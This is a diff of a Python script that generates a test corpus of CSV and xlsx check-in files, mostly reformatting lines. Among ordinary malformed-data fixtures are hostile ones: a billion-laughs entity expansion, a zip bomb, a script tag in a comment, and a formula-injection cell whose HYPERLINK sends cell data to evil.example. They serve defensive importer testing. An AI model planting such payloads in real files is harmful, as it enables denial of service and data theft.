@@ -7,6 +7,7 @@ content (xlsx files carry a fixed creation date).
 
     .venv/bin/python tests/make_corpus.py
 """
+
 from __future__ import annotations
 
 import datetime as dt
@@ -72,8 +73,11 @@ def _fixed_zip_times(data: bytes) -> bytes:
             info.compress_type = zipfile.ZIP_DEFLATED
             content = source.read(entry.filename)
             if entry.filename == "docProps/core.xml":
-                content = re.sub(rb"(<dcterms:modified[^>]*>)[^<]*", rb"\g<1>" + FIXED_TIME.strftime(
-                    "%Y-%m-%dT%H:%M:%SZ").encode(), content)
+                content = re.sub(
+                    rb"(<dcterms:modified[^>]*>)[^<]*",
+                    rb"\g<1>" + FIXED_TIME.strftime("%Y-%m-%dT%H:%M:%SZ").encode(),
+                    content,
+                )
             target.writestr(info, content)
     return buffer.getvalue()
 
@@ -151,7 +155,8 @@ def billion_laughs() -> bytes:
     workbook.close()
     data = buffer.getvalue()
     entities = '<!ENTITY lol0 "lol">' + "".join(
-        f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, 10))
+        f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, 10)
+    )
     source = zipfile.ZipFile(io.BytesIO(data))
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
@@ -184,8 +189,14 @@ def full_workbook_with_new_check_ins() -> bytes:
     sheet = workbook["CheckIns"]
     header = [cell.value for cell in sheet[1]]
     for kr_id, value, comment in (("SAL-O2-KR1", 512000, "Two deals closed"), ("SAL-O2-KR2", 15, None)):
-        row = dict(kr_id=kr_id, date=dt.datetime(2027, 5, 31), value=value, confidence=7, comment=comment,
-                   updated_by="Maya Goldberg")
+        row = dict(
+            kr_id=kr_id,
+            date=dt.datetime(2027, 5, 31),
+            value=value,
+            confidence=7,
+            comment=comment,
+            updated_by="Maya Goldberg",
+        )
         sheet.append([row.get(name) for name in header])
     workbook.properties.created = workbook.properties.modified = FIXED_TIME
     buffer = io.BytesIO()
@@ -197,8 +208,10 @@ def zip_bomb() -> bytes:
     """A tiny .xlsx that declares 300 MB of sheet XML (zeros, deflated ~1000:1)."""
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
-        archive.writestr(zipfile.ZipInfo("xl/workbook.xml", FIXED_TIME.timetuple()[:6]),
-                         '<workbook><sheets><sheet name="CheckIns" sheetId="1" r:id="rId1"/></sheets></workbook>')
+        archive.writestr(
+            zipfile.ZipInfo("xl/workbook.xml", FIXED_TIME.timetuple()[:6]),
+            '<workbook><sheets><sheet name="CheckIns" sheetId="1" r:id="rId1"/></sheets></workbook>',
+        )
         info = zipfile.ZipInfo("xl/worksheets/sheet1.xml", FIXED_TIME.timetuple()[:6])
         info.compress_type = zipfile.ZIP_DEFLATED
         chunk = b"\0" * 2**20
@@ -238,118 +251,243 @@ def corpus(store: Store) -> dict[str, bytes]:
         "only_header.csv": csv_bytes([CHECK_IN_HEADER]),
         # Rows with problems.
         "unknown_kr_id.csv": csv_bytes([CHECK_IN_HEADER, ["SAL-02-KR1", "2027-05-31", 512000, None, 7, None, None]]),
-        "other_team_kr.csv": csv_bytes([CHECK_IN_HEADER, sales_row,
-                                        ["MKT-O1-KR1", "2027-05-31", 40, None, 6, None, None]]),
-        "non_numeric_value.csv": csv_bytes([CHECK_IN_HEADER, ["SAL-O2-KR2", "2027-05-31", "about 15", None, 6, None, None]]),
+        "other_team_kr.csv": csv_bytes(
+            [CHECK_IN_HEADER, sales_row, ["MKT-O1-KR1", "2027-05-31", 40, None, 6, None, None]]
+        ),
+        "non_numeric_value.csv": csv_bytes(
+            [CHECK_IN_HEADER, ["SAL-O2-KR2", "2027-05-31", "about 15", None, 6, None, None]]
+        ),
         "date_far_future.csv": csv_bytes([CHECK_IN_HEADER, ["SAL-O2-KR1", "2207-05-31", 512000, None, 7, None, None]]),
         "date_not_a_date.csv": csv_bytes([CHECK_IN_HEADER, ["SAL-O2-KR1", "end of May", 512000, None, 7, None, None]]),
         "duplicate_rows.csv": csv_bytes([CHECK_IN_HEADER, sales_row, sales_row]),
         "missing_kr_id_column.csv": csv_bytes([["date", "value", "comment"], ["2027-05-31", 512000, "no id"]]),
-        "missing_value_column.xlsx": xlsx_bytes({"CheckIns": [["kr_id", "date", "confidence", "comment"],
-                                                              ["SAL-O2-KR1", "2027-05-31", 7, "forgot the number"]]}),
-        "formula_without_result.xlsx": xlsx_bytes({"CheckIns": [CHECK_IN_HEADER,
-                                                                ["SAL-O2-KR1", "2027-05-31", "=450000+62000", None, 7]]}),
-        "nan_inf_values.csv": csv_bytes([CHECK_IN_HEADER, ["SAL-O2-KR1", "2027-05-31", "inf", None, 7, None, None],
-                                         ["SAL-O2-KR2", "2027-05-31", "NaN", None, 6, "no number", None]]),
-        "negative_confidence.csv": csv_bytes([CHECK_IN_HEADER, ["SAL-O2-KR1", "2027-05-31", 512000, None, -1, None, None]]),
+        "missing_value_column.xlsx": xlsx_bytes(
+            {
+                "CheckIns": [
+                    ["kr_id", "date", "confidence", "comment"],
+                    ["SAL-O2-KR1", "2027-05-31", 7, "forgot the number"],
+                ]
+            }
+        ),
+        "formula_without_result.xlsx": xlsx_bytes(
+            {"CheckIns": [CHECK_IN_HEADER, ["SAL-O2-KR1", "2027-05-31", "=450000+62000", None, 7]]}
+        ),
+        "nan_inf_values.csv": csv_bytes(
+            [
+                CHECK_IN_HEADER,
+                ["SAL-O2-KR1", "2027-05-31", "inf", None, 7, None, None],
+                ["SAL-O2-KR2", "2027-05-31", "NaN", None, 6, "no number", None],
+            ]
+        ),
+        "negative_confidence.csv": csv_bytes(
+            [CHECK_IN_HEADER, ["SAL-O2-KR1", "2027-05-31", 512000, None, -1, None, None]]
+        ),
         "confidence_11.csv": csv_bytes([CHECK_IN_HEADER, ["SAL-O2-KR1", "2027-05-31", 512000, None, 11, None, None]]),
-        "status_word_typo.csv": csv_bytes([CHECK_IN_HEADER, ["ENG-O2-KR2", "2027-05-31", None, "Good progres", 6, None, None]]),
-        "engineering_number_for_status_kr.csv": csv_bytes([CHECK_IN_HEADER, ["ENG-O2-KR2", "2027-05-31", 3, None, 6, None, None]]),
-        "status_for_numeric_kr.csv": csv_bytes([CHECK_IN_HEADER, ["SAL-O2-KR2", "2027-05-31", None, "Completed", 6, None, None]]),
+        "status_word_typo.csv": csv_bytes(
+            [CHECK_IN_HEADER, ["ENG-O2-KR2", "2027-05-31", None, "Good progres", 6, None, None]]
+        ),
+        "engineering_number_for_status_kr.csv": csv_bytes(
+            [CHECK_IN_HEADER, ["ENG-O2-KR2", "2027-05-31", 3, None, 6, None, None]]
+        ),
+        "status_for_numeric_kr.csv": csv_bytes(
+            [CHECK_IN_HEADER, ["SAL-O2-KR2", "2027-05-31", None, "Completed", 6, None, None]]
+        ),
         # Whole files that cannot be opened, made from good ones.
         "truncated.xlsx": filled_template(store, "Sales", {"SAL-O2-KR1": {"value": 512000}})[:3000],
         # Odd but valid: the shapes people really send.
-        "template_filled.xlsx": filled_template(store, "Sales", {
-            "SAL-O2-KR1": {"value": 512000, "confidence": 8, "comment": "Two deals closed"},
-            "SAL-O3-KR2": {"value": 3, "confidence": 5},
-        }),
-        "checkins_sheet.xlsx": xlsx_bytes({"CheckIns": [CHECK_IN_HEADER, sales_row,
-                                                        ["SAL-O2-KR3", dt.datetime(2027, 5, 31), 23.5, None, 8, None, "Fatima Zahra"]]}),
+        "template_filled.xlsx": filled_template(
+            store,
+            "Sales",
+            {
+                "SAL-O2-KR1": {"value": 512000, "confidence": 8, "comment": "Two deals closed"},
+                "SAL-O3-KR2": {"value": 3, "confidence": 5},
+            },
+        ),
+        "checkins_sheet.xlsx": xlsx_bytes(
+            {
+                "CheckIns": [
+                    CHECK_IN_HEADER,
+                    sales_row,
+                    ["SAL-O2-KR3", dt.datetime(2027, 5, 31), 23.5, None, 8, None, "Fatima Zahra"],
+                ]
+            }
+        ),
         "full_workbook.xlsx": full_workbook_with_new_check_ins(),
-        "current_column_no_date.csv": csv_bytes([["KR ID", "Current", "Comment"],
-                                                 ["SAL-O2-KR1", "512000", "Two deals closed"],
-                                                 ["SAL-O2-KR2", "", ""],
-                                                 ["SAL-O3-KR3", "97", ""]]),
-        "semicolon_decimal_comma.csv": csv_bytes([["kr_id", "date", "value", "comment"],
-                                                  ["SAL-O2-KR1", "31/05/2027", "512.000,5", "Zwei Abschlüsse"],
-                                                  ["SAL-O2-KR3", "31/05/2027", "23,5", ""]], delimiter=";"),
-        "excel_serial_dates.xlsx": xlsx_bytes({"CheckIns": [["kr_id", "date", "value"],
-                                                            ["SAL-O2-KR1", 46538, 512000],
-                                                            ["SAL-O2-KR2", "46538", 15]]}),
-        "percent_and_dollar.csv": csv_bytes([["kr_id", "date", "value"],
-                                             ["SAL-O2-KR3", "2027-05-31", "24%"],
-                                             ["SAL-O2-KR1", "2027-05-31", "$1,200"]]),
-        "utf16_tab.csv": csv_bytes([["kr_id", "date", "value", "comment"],
-                                    ["SAL-O2-KR1", "2027-05-31", "512000", "Déjà deux contrats"]],
-                                   delimiter="\t", encoding="utf-16"),
-        "utf16le_without_bom.csv": csv_bytes([["kr_id", "date", "value"], ["SAL-O2-KR1", "2027-05-31", "512000"]],
-                                             encoding="utf-16-le"),
+        "current_column_no_date.csv": csv_bytes(
+            [
+                ["KR ID", "Current", "Comment"],
+                ["SAL-O2-KR1", "512000", "Two deals closed"],
+                ["SAL-O2-KR2", "", ""],
+                ["SAL-O3-KR3", "97", ""],
+            ]
+        ),
+        "semicolon_decimal_comma.csv": csv_bytes(
+            [
+                ["kr_id", "date", "value", "comment"],
+                ["SAL-O2-KR1", "31/05/2027", "512.000,5", "Zwei Abschlüsse"],
+                ["SAL-O2-KR3", "31/05/2027", "23,5", ""],
+            ],
+            delimiter=";",
+        ),
+        "excel_serial_dates.xlsx": xlsx_bytes(
+            {"CheckIns": [["kr_id", "date", "value"], ["SAL-O2-KR1", 46538, 512000], ["SAL-O2-KR2", "46538", 15]]}
+        ),
+        "percent_and_dollar.csv": csv_bytes(
+            [["kr_id", "date", "value"], ["SAL-O2-KR3", "2027-05-31", "24%"], ["SAL-O2-KR1", "2027-05-31", "$1,200"]]
+        ),
+        "utf16_tab.csv": csv_bytes(
+            [["kr_id", "date", "value", "comment"], ["SAL-O2-KR1", "2027-05-31", "512000", "Déjà deux contrats"]],
+            delimiter="\t",
+            encoding="utf-16",
+        ),
+        "utf16le_without_bom.csv": csv_bytes(
+            [["kr_id", "date", "value"], ["SAL-O2-KR1", "2027-05-31", "512000"]], encoding="utf-16-le"
+        ),
         "csv_named_xlsx.xlsx": csv_bytes([["kr_id", "date", "value"], ["SAL-O2-KR1", "2027-05-31", "512000"]]),
-        "cp1252_accents.csv": csv_bytes([["kr_id", "date", "value", "comment"],
-                                         ["SAL-O2-KR1", "2027-05-31", "512000", "Signé à Zürich – café"]],
-                                        encoding="cp1252"),
-        "title_rows_above_header.xlsx": xlsx_bytes({"Sales May": [["Sales progress, May 2027"], [],
-                                                                  ["KR id", "Check-in date", "Current value", "Confidence"],
-                                                                  ["SAL-O2-KR1", "2027-05-31", 512000, 7]]}),
-        "longest_cell.xlsx": xlsx_bytes({"CheckIns": [CHECK_IN_HEADER,
-                                                      ["SAL-O2-KR1", "2027-05-31", 512000, None, 7,
-                                                       ("Long note. " * 3000)[:LONGEST_CELL], None]]}),
-        "na_values.csv": csv_bytes([CHECK_IN_HEADER, ["SAL-O2-KR1", "2027-05-31", "N/A", None, "n/a", None, None],
-                                    ["SAL-O2-KR2", "2027-05-31", "#N/A", None, None, None, None],
-                                    ["SAL-O2-KR3", "2027-05-31", "24", None, "N/A", None, None]]),
-        "engineering_status_odd_case.csv": csv_bytes([CHECK_IN_HEADER,
-                                                      ["ENG-O2-KR2", "2027-05-31", None, "gOOD pROGRESS", 7, None, None]]),
-        "html_in_comment.csv": csv_bytes([CHECK_IN_HEADER, ["SAL-O2-KR1", "2027-05-31", 512000, None, 7,
-                                                            "<script>alert('x')</script><b>bold</b> **not bold**", None]]),
-        "value_moved_backwards.csv": csv_bytes([CHECK_IN_HEADER, ["SAL-O2-KR1", "2027-05-31", 300000, None, 6,
-                                                                  "Deal slipped out", None],
-                                                ["SAL-O2-KR4", "2027-05-31", 85, None, 6, None, None]]),
+        "cp1252_accents.csv": csv_bytes(
+            [["kr_id", "date", "value", "comment"], ["SAL-O2-KR1", "2027-05-31", "512000", "Signé à Zürich – café"]],
+            encoding="cp1252",
+        ),
+        "title_rows_above_header.xlsx": xlsx_bytes(
+            {
+                "Sales May": [
+                    ["Sales progress, May 2027"],
+                    [],
+                    ["KR id", "Check-in date", "Current value", "Confidence"],
+                    ["SAL-O2-KR1", "2027-05-31", 512000, 7],
+                ]
+            }
+        ),
+        "longest_cell.xlsx": xlsx_bytes(
+            {
+                "CheckIns": [
+                    CHECK_IN_HEADER,
+                    ["SAL-O2-KR1", "2027-05-31", 512000, None, 7, ("Long note. " * 3000)[:LONGEST_CELL], None],
+                ]
+            }
+        ),
+        "na_values.csv": csv_bytes(
+            [
+                CHECK_IN_HEADER,
+                ["SAL-O2-KR1", "2027-05-31", "N/A", None, "n/a", None, None],
+                ["SAL-O2-KR2", "2027-05-31", "#N/A", None, None, None, None],
+                ["SAL-O2-KR3", "2027-05-31", "24", None, "N/A", None, None],
+            ]
+        ),
+        "engineering_status_odd_case.csv": csv_bytes(
+            [CHECK_IN_HEADER, ["ENG-O2-KR2", "2027-05-31", None, "gOOD pROGRESS", 7, None, None]]
+        ),
+        "html_in_comment.csv": csv_bytes(
+            [
+                CHECK_IN_HEADER,
+                [
+                    "SAL-O2-KR1",
+                    "2027-05-31",
+                    512000,
+                    None,
+                    7,
+                    "<script>alert('x')</script><b>bold</b> **not bold**",
+                    None,
+                ],
+            ]
+        ),
+        "value_moved_backwards.csv": csv_bytes(
+            [
+                CHECK_IN_HEADER,
+                ["SAL-O2-KR1", "2027-05-31", 300000, None, 6, "Deal slipped out", None],
+                ["SAL-O2-KR4", "2027-05-31", 85, None, 6, None, None],
+            ]
+        ),
         # Encodings and separators.
-        "utf8_bom.csv": b"\xef\xbb\xbf" + csv_bytes([["kr_id", "date", "value", "comment"],
-                                                   ["SAL-O2-KR1", "2027-05-31", "512000", "Déjà signé"]]),
-        "utf16be_bom.csv": b"\xfe\xff" + csv_bytes([["kr_id", "date", "value", "comment"],
-                                                   ["SAL-O2-KR1", "2027-05-31", "512000", "Größer – ça marche"]],
-                                                  encoding="utf-16-be"),
-        "utf16be_without_bom.csv": csv_bytes([["kr_id", "date", "value"], ["SAL-O2-KR1", "2027-05-31", "512000"]],
-                                             encoding="utf-16-be"),
-        "pipe_separated.csv": csv_bytes([["kr_id", "date", "value", "comment"],
-                                         ["SAL-O2-KR1", "2027-05-31", "512000", "Two deals, both signed"]],
-                                        delimiter="|"),
-        "tab_separated_utf8.csv": csv_bytes([["kr_id", "date", "value", "confidence"],
-                                             ["SAL-O2-KR1", "2027-05-31", "512000", "7"],
-                                             ["SAL-O2-KR3", "2027-05-31", "23,5", "8"]], delimiter="\t"),
-        "decimal_comma_quoted.csv": csv_bytes([["kr_id", "date", "value"], ["SAL-O2-KR3", "2027-05-31", "23,5"],
-                                               ["SAL-O2-KR1", "2027-05-31", "1,250,000"]]),
+        "utf8_bom.csv": b"\xef\xbb\xbf"
+        + csv_bytes([["kr_id", "date", "value", "comment"], ["SAL-O2-KR1", "2027-05-31", "512000", "Déjà signé"]]),
+        "utf16be_bom.csv": b"\xfe\xff"
+        + csv_bytes(
+            [["kr_id", "date", "value", "comment"], ["SAL-O2-KR1", "2027-05-31", "512000", "Größer – ça marche"]],
+            encoding="utf-16-be",
+        ),
+        "utf16be_without_bom.csv": csv_bytes(
+            [["kr_id", "date", "value"], ["SAL-O2-KR1", "2027-05-31", "512000"]], encoding="utf-16-be"
+        ),
+        "pipe_separated.csv": csv_bytes(
+            [["kr_id", "date", "value", "comment"], ["SAL-O2-KR1", "2027-05-31", "512000", "Two deals, both signed"]],
+            delimiter="|",
+        ),
+        "tab_separated_utf8.csv": csv_bytes(
+            [
+                ["kr_id", "date", "value", "confidence"],
+                ["SAL-O2-KR1", "2027-05-31", "512000", "7"],
+                ["SAL-O2-KR3", "2027-05-31", "23,5", "8"],
+            ],
+            delimiter="\t",
+        ),
+        "decimal_comma_quoted.csv": csv_bytes(
+            [
+                ["kr_id", "date", "value"],
+                ["SAL-O2-KR3", "2027-05-31", "23,5"],
+                ["SAL-O2-KR1", "2027-05-31", "1,250,000"],
+            ]
+        ),
         # Dates: one order per column (05/31/2027 makes this one month first); Excel for Mac's 1904 date system.
-        "ambiguous_dates.csv": csv_bytes([["kr_id", "date", "value"], ["SAL-O2-KR1", "03/04/2027", "350000"],
-                                          ["SAL-O2-KR2", "05/31/2027", "15"]]),
-        "epoch_1904.xlsx": xlsx_1904([["kr_id", "date", "value"], ["SAL-O2-KR1", dt.datetime(2027, 5, 31), 512000],
-                                      ["SAL-O2-KR2", 46538 - EXCEL_1904_SHIFT, 15]]),
+        "ambiguous_dates.csv": csv_bytes(
+            [["kr_id", "date", "value"], ["SAL-O2-KR1", "03/04/2027", "350000"], ["SAL-O2-KR2", "05/31/2027", "15"]]
+        ),
+        "epoch_1904.xlsx": xlsx_1904(
+            [
+                ["kr_id", "date", "value"],
+                ["SAL-O2-KR1", dt.datetime(2027, 5, 31), 512000],
+                ["SAL-O2-KR2", 46538 - EXCEL_1904_SHIFT, 15],
+            ]
+        ),
         # Layouts: a merged title above the header, empty sheets, repeated headers.
-        "merged_title_cells.xlsx": xlsx_merged_title([["Sales — progress for the May review"], [None],
-                                                      ["KR id", "Date", "Current value", "Comment"],
-                                                      ["SAL-O2-KR1", "2027-05-31", 512000, "Two deals closed"]],
-                                                     "A1:D1"),
-        "title_rows_above_header.csv": csv_bytes([["Sales progress export"], ["Generated 2027-05-31 by the CRM"], [],
-                                                  ["KR ID", "Check-in date", "Actual"],
-                                                  ["SAL-O2-KR1", "2027-05-31", "512000"]]),
+        "merged_title_cells.xlsx": xlsx_merged_title(
+            [
+                ["Sales — progress for the May review"],
+                [None],
+                ["KR id", "Date", "Current value", "Comment"],
+                ["SAL-O2-KR1", "2027-05-31", 512000, "Two deals closed"],
+            ],
+            "A1:D1",
+        ),
+        "title_rows_above_header.csv": csv_bytes(
+            [
+                ["Sales progress export"],
+                ["Generated 2027-05-31 by the CRM"],
+                [],
+                ["KR ID", "Check-in date", "Actual"],
+                ["SAL-O2-KR1", "2027-05-31", "512000"],
+            ]
+        ),
         "empty_sheet_beside_data.xlsx": workbook_with_empty_sheets({"CheckIns": [CHECK_IN_HEADER, sales_row]}),
         "only_empty_sheets.xlsx": xlsx_bytes({"Sheet1": [], "Sheet2": []}),
-        "duplicate_headers.csv": csv_bytes([["kr_id", "date", "value", "Value", "comment"],
-                                            ["SAL-O2-KR1", "2027-05-31", "", "512000", "which one?"]]),
+        "duplicate_headers.csv": csv_bytes(
+            [["kr_id", "date", "value", "Value", "comment"], ["SAL-O2-KR1", "2027-05-31", "", "512000", "which one?"]]
+        ),
         # Cells: formulas and their results, Excel errors, text too long for a cell, formulas in text.
         "formula_with_saved_result.xlsx": xlsx_with_raw_cells(
             [["kr_id", "date", "value"], ["SAL-O2-KR1", "2027-05-31", None]],
-            {"C2": b'<c r="C2"><f>450000+62000</f><v>512000</v></c>'}),
+            {"C2": b'<c r="C2"><f>450000+62000</f><v>512000</v></c>'},
+        ),
         "excel_error_value.xlsx": xlsx_with_raw_cells(
-            [["kr_id", "date", "value", "comment"], ["SAL-O2-KR1", "2027-05-31", None, "from the CRM sheet"],
-             ["SAL-O2-KR2", "2027-05-31", None, "lookup failed"]],
-            {"C2": b'<c r="C2" t="e"><f>B9/B10</f><v>#DIV/0!</v></c>',
-             "C3": b'<c r="C3" t="e"><f>VLOOKUP(A3,Data!A:B,2,FALSE)</f><v>#N/A</v></c>'}),
-        "overlong_cell.csv": csv_bytes([CHECK_IN_HEADER, ["SAL-O2-KR1", "2027-05-31", 512000, None, 7,
-                                                          "x" * OVERLONG_CELL, None]]),
-        "formula_injection_comment.csv": csv_bytes([CHECK_IN_HEADER, [
-            "SAL-O2-KR1", "2027-05-31", 512000, None, 7, '=HYPERLINK("http://evil.example/?d="&A1,"Click")', None]]),
+            [
+                ["kr_id", "date", "value", "comment"],
+                ["SAL-O2-KR1", "2027-05-31", None, "from the CRM sheet"],
+                ["SAL-O2-KR2", "2027-05-31", None, "lookup failed"],
+            ],
+            {
+                "C2": b'<c r="C2" t="e"><f>B9/B10</f><v>#DIV/0!</v></c>',
+                "C3": b'<c r="C3" t="e"><f>VLOOKUP(A3,Data!A:B,2,FALSE)</f><v>#N/A</v></c>',
+            },
+        ),
+        "overlong_cell.csv": csv_bytes(
+            [CHECK_IN_HEADER, ["SAL-O2-KR1", "2027-05-31", 512000, None, 7, "x" * OVERLONG_CELL, None]]
+        ),
+        "formula_injection_comment.csv": csv_bytes(
+            [
+                CHECK_IN_HEADER,
+                ["SAL-O2-KR1", "2027-05-31", 512000, None, 7, '=HYPERLINK("http://evil.example/?d="&A1,"Click")', None],
+            ]
+        ),
         "billion_laughs.xlsx": billion_laughs(),
     }
     return files
